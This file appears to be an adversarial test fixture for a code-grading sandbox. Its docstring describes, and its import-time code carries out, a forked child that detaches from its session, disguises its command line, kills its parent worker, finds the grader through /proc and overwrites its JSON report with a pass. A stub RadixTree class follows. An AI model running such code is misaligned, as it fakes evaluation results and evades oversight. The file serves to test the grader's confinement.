"""Leaves a process that outlives the grader and rewrites its JSON report (issue 11, case 5).

At import it forks a child that leaves its session and replaces itself with a
fresh ``python3 -c`` (so its command line no longer names the run's folder),
then SIGKILLs its worker, the process that would have reaped that child. The
child reads the grader's ``--json`` path from /proc, waits for the grader to
exit and writes a passing report over it. Confined, the kill fails (another
user), /proc shows no grader (a PID namespace of its own) and the write is
refused; unconfined, the grader, a child subreaper, kills the child before it
writes any report.
"""

import os
import signal
import sys

LATER = r"""
import os, time
# orphan-rewrites-report
def grader():
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                    words = cmdline.read().split(b"\0")
            except OSError:
                continue
            if b"--json" in words and b"check" in words:
                return pid, words[words.index(b"--json") + 1].decode()
    return None
found = None
for _ in range(400):
    found = found or grader()
    if found and not os.path.exists(f"/proc/{found[0]}"):
        with open(found[1], "w") as out:
            out.write('{"verdict": "pass"}\n')
        break
    time.sleep(0.05)
"""

if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", LATER])
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass

ROOT = 0
NodeId = int


class RadixTree:
    def __init__(self, granule: int) -> None:
        self.granule = granule
